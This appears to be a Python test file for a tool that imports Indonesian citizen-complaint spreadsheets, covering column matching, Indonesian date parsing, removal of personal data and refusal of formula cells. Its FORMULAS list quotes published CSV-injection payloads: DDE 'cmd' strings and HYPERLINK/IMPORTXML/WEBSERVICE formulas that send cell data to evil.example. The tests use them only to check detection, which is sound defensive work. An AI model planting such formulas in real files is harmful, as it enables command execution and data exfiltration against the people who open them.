"""``kanal import`` of exports as clerks bring them: a title above the column names, the
columns' own names ("Tanggal Tanggapan", "Kecamatan", "No. HP"), dates in the Indonesian
locale, agencies as clerks write them and a totals row. No column is dropped without a word."""

from __future__ import annotations

import csv
import datetime as dt
import unicodedata
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.cli import main
from generator.complaints.importers import MONTHS, _lapor_time
from generator.safeinput.words import header_key
from tests.complaints_util import make_data

JAKARTA = dt.timezone(dt.timedelta(hours=7))
HEADER = [
    "No",
    "Nomor Tiket",
    "Tanggal Laporan",
    "Instansi Tujuan",
    "Kategori",
    "Status",
    "Tanggal Tanggapan",
    "Tgl. Selesai",
    "Kecamatan",
    "Isi Laporan",
    "Nama Pelapor",
    "No. HP",
    "Foto",
]
OPD = (
    "id: dinas-perhubungan\nname: Dinas Perhubungan Kota Uji\nkind: dinas\n"
    'channels:\n  - type: phone\n    value: "(0271) 700002"\n'
)


def _workbook(path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["REKAP ADUAN MASYARAKAT KOTA UJI"])
    sheet.merge_cells("A1:F1")
    sheet.append(["Periode: Maret 2026"])
    sheet.append([])
    sheet.append(HEADER)
    sheet.append(
        [1, "T-1", dt.datetime(2026, 3, 2, 9, 15), "Dinas Kesehatan", "Jalan Rusak", "Selesai",
         "03/03/2026 10.30", "5 Mar 2026 14.00", "Laweyan", "Saya Budi, rumah saya",
         "Budi Santoso", "0812-3344-5566", "foto.jpg"]
    )  # fmt: skip
    sheet.append(
        [2, "T-2", "04-03-2026 08.00", "Kec. Laweyan", "sampah", "Diproses",
         "4 Maret 2026 pukul 13.05", "", "laweyan", "", "", "", ""]
    )  # fmt: skip
    sheet.append(
        [3, "T-3", "2026-03-05 07:45", "Dinas Perhubungan", "jalan rusak", "Ditolak",
         "", "06.03.2026 09:00:30", "", "", "Siti", "081299887766", ""]
    )  # fmt: skip
    sheet.append(["JUMLAH", "", "", "", "", "", "", "", "", "", "", "", "=COUNTA(B5:B7)"])
    book.create_sheet("Catatan").append(["bukan aduan"])
    book.save(path)


def test_a_clerks_workbook_is_read_column_by_column(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    data = make_data(tmp_path, {})
    (data / "agencies" / "dishub.yml").write_text(OPD, encoding="utf-8")
    _workbook(tmp_path / "rekap.xlsx")
    out = Path("data/complaints/rekap.csv")
    assert main(["import", "--format", "lapor", "rekap.xlsx", "--out", str(out)]) == 0
    captured = capsys.readouterr()
    printed = captured.out + captured.err
    # The totals row is said to be skipped; the unknown column is named, nothing else is.
    assert "rekap.xlsx:8:1: warning: baris 'JUMLAH' dibaca sebagai baris jumlah" in printed
    assert "rekap.xlsx:4:1: warning: kolom tidak dikenal, isinya tidak dibaca: 'Foto';" in printed
    assert "Data pribadi dibuang: 1 isi laporan lengkap, 2 nama, 2 nomor telepon" in printed
    with out.open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    got = [
        (r["id"], r["agency"], r["received"], r["first_response"], r["resolved"], r["kecamatan"])
        for r in rows
    ]
    assert got == [
        ("T-1", "dinas-kesehatan", "2026-03-02T09:15+07:00", "2026-03-03T10:30+07:00",
         "2026-03-05T14:00+07:00", "Laweyan"),
        ("T-2", "kecamatan-laweyan", "2026-03-04T08:00+07:00", "2026-03-04T13:05+07:00", "",
         "laweyan"),
        ("T-3", "dinas-perhubungan", "2026-03-05T07:45+07:00", "", "2026-03-06T09:00+07:00",
         ""),
    ]  # fmt: skip
    assert [r["status"] for r in rows] == ["resolved", "open", "rejected"]
    text = out.read_text(encoding="utf-8")
    for personal in ("Budi", "3344", "Siti", "9988", "foto.jpg"):
        assert personal not in text


def test_a_column_it_does_not_know_is_named_with_the_one_it_resembles(
    tmp_path, monkeypatch, capsys
):
    monkeypatch.chdir(tmp_path)
    make_data(tmp_path, {})
    rows = [
        [
            "Nomor Tiket",
            "Tanggal Laporan",
            "Instansi",
            "Kanal",
            "Kategori",
            "Status",
            "Tgl Tanggapan Awal",
        ],
        ["T-1", "02/03/2026 09:00", "Dinkes", "whatsapp", "sampah", "diproses", "02/03/2026 10:00"],
    ]
    with open("x.csv", "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    assert main(["import", "--format", "kanal", "x.csv", "--out", "y.csv"]) == 0
    err = capsys.readouterr().err
    assert (
        "x.csv:1:1: warning: kolom tidak dikenal, isinya tidak dibaca: 'Tgl Tanggapan Awal' " in err
    )
    assert "(maksud Anda 'tgl tanggapan'" in err


def test_two_columns_for_one_field_and_a_missing_one_are_errors(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    make_data(tmp_path, {})
    Path("a.csv").write_text(
        "Nomor Tiket,Tanggal,Tanggal Laporan,Instansi,Kanal,Kategori,Status\n"
        "T-1,,02/03/2026 09:00,Dinkes,sms,sampah,baru\n",
        encoding="utf-8",
    )
    assert main(["import", "--format", "kanal", "a.csv", "--out", "y.csv"]) == 1
    assert "kolom 'Tanggal' dan 'Tanggal Laporan' sama-sama dibaca sebagai received" in (
        capsys.readouterr().err
    )
    Path("b.csv").write_text("Judul laporan\nNomor Tiket,Instansi\nT-1,Dinkes\n", encoding="utf-8")
    assert main(["import", "--format", "lapor", "b.csv", "--out", "y.csv"]) == 1
    err = capsys.readouterr().err
    # At the row that came closest (the second), each missing column with the names it may have.
    assert "b.csv:2:1: error: received: kolom Tanggal Laporan tidak ditemukan" in err
    assert "b.csv:2:1: error: status: kolom Status tidak ditemukan" in err
    assert "tanggal laporan" in err and not Path("y.csv").exists()


FORMS = [
    ("%d/%m/%Y %H.%M", False),
    ("%d/%m/%Y %H:%M", False),
    ("%d-%m-%Y %H.%M", False),
    ("%d.%m.%Y %H:%M:%S", True),
    ("%Y-%m-%d %H:%M", False),
    ("%Y-%m-%dT%H:%M", False),
]
SHORT = {v: k for k, v in MONTHS.items() if len(k) == 3 and k not in ("may", "aug", "oct", "dec")}
LONG = {v: k for k, v in MONTHS.items() if len(k) > 4 or k in ("mei", "juni", "juli")}


@settings(max_examples=200, deadline=None)
@given(
    when=st.datetimes(dt.datetime(2000, 1, 1), dt.datetime(2099, 12, 31)),
    form=st.sampled_from(range(len(FORMS) + 2)),
    case=st.sampled_from([str.lower, str.upper, str.title]),
)
def test_every_time_form_reads_back_to_its_minute(when, form, case):
    """Any minute written in any accepted form (Indonesian month names too, any case) reads
    back as that minute in the region's zone; a form with seconds keeps the minute."""
    when = when.replace(second=when.second if form == 3 else 0, microsecond=0)
    if form < len(FORMS):
        text = when.strftime(FORMS[form][0])
    else:
        month = (SHORT if form == len(FORMS) else LONG)[when.month]
        text = f"{when.day} {month} {when.year} {when:%H.%M}"
    parsed = dt.datetime.fromisoformat(_lapor_time(case(text), JAKARTA))
    assert parsed == when.replace(second=0, tzinfo=JAKARTA)


@pytest.mark.parametrize(
    "text", ["31/02/2026 08:00", "kemarin", "05/13/2026 08.00", "5 Nop 2026 08.00", "2026/11"]
)
def test_a_time_that_is_not_one_is_refused(text):
    with pytest.raises(ValueError):
        _lapor_time(text, JAKARTA)


def test_column_names_compare_without_case_and_punctuation():
    assert header_key(" No. HP ") == header_key("no hp") == "no hp"
    assert header_key("Tgl.Selesai") == "tgl selesai"


def test_a_value_it_does_not_know_is_named_by_the_clerks_column_and_cell(
    tmp_path, monkeypatch, capsys
):
    """The clerk corrects the workbook: each error names the column as the export titles it
    and the cell as Excel names it, not the folded key it was matched by ('tanggal laporan')."""
    monkeypatch.chdir(tmp_path)
    make_data(tmp_path, {})
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Aduan Maret"
    sheet.append(["Nomor Tiket", "TANGGAL  LAPORAN", "Instansi Tujuan", "Kategori", "Status"])
    sheet.append(["T-1", "kemarin sore", "Dinas Kesehatan", "jalan rusak", "selesai"])
    sheet.append(["T-2", "02/03/2026 09:00", "Dinas Entah", "jalan rusakk", "beres?"])
    book.save(tmp_path / "rekap.xlsx")
    assert main(["import", "--format", "lapor", "rekap.xlsx", "--out", "y.csv"]) == 1
    err = capsys.readouterr().err
    assert "rekap.xlsx:2:2: error: TANGGAL  LAPORAN (Aduan Maret!B2): waktu 'kemarin sore'" in err
    assert (
        "rekap.xlsx:3:3: error: Instansi Tujuan (Aduan Maret!C3): nama instansi 'Dinas Entah'"
        in err
    )
    assert "rekap.xlsx:3:4: error: Kategori (Aduan Maret!D3): kategori 'jalan rusakk'" in err
    assert "rekap.xlsx:3:5: error: Status (Aduan Maret!E3): status 'beres?'" in err
    assert "tanggal laporan" not in err and "error: status:" not in err


# Payloads of CSV injection as published (OWASP "CSV Injection"; Google Sheets' IMPORTXML and
# Excel's WEBSERVICE exfiltration), and cells that only look alike.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik di sini")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "-HYPERLINK(1)",
    "\uff1dcmd|' /C calc'!A0",  # full-width = (East Asian Excel reads it as =)
    "\uff0bHYPERLINK(1)",
    "=1+1",  # any formula at all
]
PLAIN = [
    "-",
    "--",
    "T-001",
    "+62 812 3344 5566",
    "-5,5",
    "2026-03-02",
    "Laweyan",
    "1/2",
    "@dinkesblora tolong jalan depan pasar",  # a citizen's mention
    "- Lampu PJU mati",  # a bullet
    "- Lampu (PJU) mati sejak Senin!",
    "+/- 3 bulan jalan rusak",
]


def test_formula_cells_are_told_apart_from_plain_ones():
    from generator.safeinput.formulas import runs_as_formula

    assert all(runs_as_formula(f) for f in FORMULAS)
    assert not any(runs_as_formula(p) for p in PLAIN)


def test_a_cell_a_spreadsheet_would_run_is_not_written_into_the_repository(
    tmp_path, monkeypatch, capsys
):
    """data/complaints is public and opened in Excel as it is (the site's tables get a leading
    apostrophe, the repository's files do not): the import refuses such cells, each at its own
    cell, and writes nothing."""
    monkeypatch.chdir(tmp_path)
    make_data(tmp_path, {})
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Aduan"
    sheet.append(
        ["Nomor Tiket", "Tanggal Laporan", "Instansi Tujuan", "Judul", "Kecamatan", "Status"]
    )
    for i, formula in enumerate(FORMULAS):
        # openpyxl writes a string starting with "=" as a formula: the export's own cell,
        # as a clerk's workbook holds it, is read back as its text.
        sheet.append(
            [f"T-{i}", "02/03/2026 09:00", "Dinas Kesehatan", formula, "Laweyan", "Proses"]
        )
    sheet.append(
        ["-2+3+cmd|' /C calc'!A0", "02/03/2026 09:00", "Dinkes", "Jalan", "@SUM(A1)", "Proses"]
    )
    sheet.append(["T-99", "02/03/2026 09:00", "Dinas Kesehatan", "- jalan rusak", "-", "Proses"])
    book.save(tmp_path / "rekap.xlsx")
    assert main(["import", "--format", "lapor", "rekap.xlsx", "--out", "y.csv"]) == 1
    err = capsys.readouterr().err
    for row, formula in enumerate(FORMULAS, start=2):
        if formula[0] == "=":
            continue  # a workbook's formula is read as its value (none here): never as text
        sign = unicodedata.normalize("NFKC", formula)[0]  # summaries are normalized first
        assert f"rekap.xlsx:{row}:4: error: Judul (Aduan!D{row}): diawali '{sign}'" in err
    last = len(FORMULAS) + 2
    assert f"rekap.xlsx:{last}:1: error: Nomor Tiket (Aduan!A{last}): diawali '-'" in err
    assert f"rekap.xlsx:{last}:5: error: Kecamatan (Aduan!E{last}): diawali '@'" in err
    assert f":{last + 1}:" not in err  # a bullet, and a lone dash that stands for nothing
    assert err.count(": error: ") == sum(f[0] != "=" for f in FORMULAS) + 3  # Kecamatan twice
    assert not (tmp_path / "y.csv").exists()
    # The same cells as a CSV export brings them: as text, formulas included.
    with open("rekap.csv", "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Nomor Tiket", "Tanggal Laporan", "Instansi Tujuan", "Judul", "Status"])
        for i, formula in enumerate(FORMULAS):
            writer.writerow([f"T-{i}", "02/03/2026 09:00", "Dinas Kesehatan", formula, "Proses"])
        writer.writerow(["T-99", "02/03/2026 09:00", "Dinas Kesehatan", "Jalan", "-"])
    assert main(["import", "--format", "lapor", "rekap.csv", "--out", "y.csv"]) == 1
    err = capsys.readouterr().err
    for row, formula in enumerate(FORMULAS, start=2):
        sign = unicodedata.normalize("NFKC", formula)[0]
        assert f"rekap.csv:{row}:4: error: Judul: diawali '{sign}'" in err
    # "-" is an empty cell: a status is required (not "status '-' tidak dikenal")
    assert f"rekap.csv:{len(FORMULAS) + 2}:5: error: Status: wajib diisi" in err
    assert err.count(": error: ") == len(FORMULAS) + 1
    assert not (tmp_path / "y.csv").exists()


def test_kanal_check_refuses_a_formula_in_the_repository(tmp_path, monkeypatch):
    """The same rule for a file a pull request brings by hand: refused at its cell by kanal
    check (the build too), whichever way the file is read; a bullet or a mention is kept."""
    from tests.complaints_util import run_check

    header = "id,agency,channel,category,received,first_response,resolved,status,kecamatan,summary"
    row = "T-{n},dinas-kesehatan,lapor,sampah,2026-03-02T09:00+07:00,,,open,{kec},{summary}"
    rows = [
        row.format(n=1, kec="Laweyan", summary="- Lampu PJU mati"),
        row.format(n=2, kec="Laweyan", summary="@dinkes tolong"),
        row.format(n=3, kec="Laweyan", summary='"=HYPERLINK(""http://x.invalid/?""&A1,""klik"")"'),
        row.format(n=4, kec="@SUM(1+1)", summary=""),
        "-2+3+cmd|' /C calc'!A0" + row.format(n=5, kec="", summary="")[3:],
    ]
    _, problems = run_check(tmp_path, monkeypatch, {"a.csv": "\n".join([header, *rows]) + "\n"})
    formulas = [p for p in problems if "berisi rumus" in p]
    assert [p.split(": error: ")[0] for p in formulas] == [
        "data/complaints/a.csv:4:10",
        "data/complaints/a.csv:5:9",
        "data/complaints/a.csv:6:1",
    ]


def test_a_clerks_text_apostrophe_is_dropped_but_a_summarys_quote_is_kept(
    tmp_path, monkeypatch, capsys
):
    """'00123 and '02/03/2026 09:00 are typed so a spreadsheet keeps the zero and does not
    make a date of it: the apostrophe is no part of the ticket (it was published as
    "'00123") nor of the time, the agency, the status, the complainant's name (which is then
    found in the summary). A summary is free text: it keeps a quote it opens ('Jalan rusak'
    kata warga), and loses the mark that closes nothing or stands before a formula's first
    character ('-- sampah, as Kanal's own published CSV writes it)."""
    monkeypatch.chdir(tmp_path)
    make_data(tmp_path, {})
    Path("x.csv").write_text(
        "Nomor Tiket;Tanggal Laporan;Instansi;Kanal;Kategori;Status;Kecamatan;Ringkasan;"
        "Nama Pelapor;Zona Waktu\n"
        "'00123;'02/03/2026 09:00;'Dinkes;'whatsapp;'sampah;'diproses;'Laweyan;"
        "'Sampah di pasar, kata Budi;'Budi;'WITA\n"
        "'00124;02/03/2026 09:00;Dinkes;whatsapp;sampah;diproses;Laweyan;'-- sampah;;\n"
        "'00125;02/03/2026 09:00;Dinkes;whatsapp;sampah;diproses;Laweyan;"
        "'Jalan rusak' kata warga;;\n",
        encoding="utf-8",
    )
    out = Path("data/complaints/x.csv")
    assert main(["import", "--format", "kanal", "x.csv", "--out", str(out)]) == 0, (
        capsys.readouterr().err
    )
    with out.open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    got = [
        (r["id"], r["received"], r["agency"], r["channel"], r["status"], r["kecamatan"])
        for r in rows
    ]
    assert got == [
        ("00123", "2026-03-02T09:00+08:00", "dinas-kesehatan", "whatsapp", "open", "Laweyan"),
        ("00124", "2026-03-02T09:00+07:00", "dinas-kesehatan", "whatsapp", "open", "Laweyan"),
        ("00125", "2026-03-02T09:00+07:00", "dinas-kesehatan", "whatsapp", "open", "Laweyan"),
    ]
    assert [r["summary"] for r in rows] == [
        "Sampah di pasar, kata [nama disamarkan]",
        "-- sampah",
        "'Jalan rusak' kata warga",
    ]
    capsys.readouterr()
    assert main(["check", "--data", "data", "--today", "2026-11-22"]) == 0, capsys.readouterr()
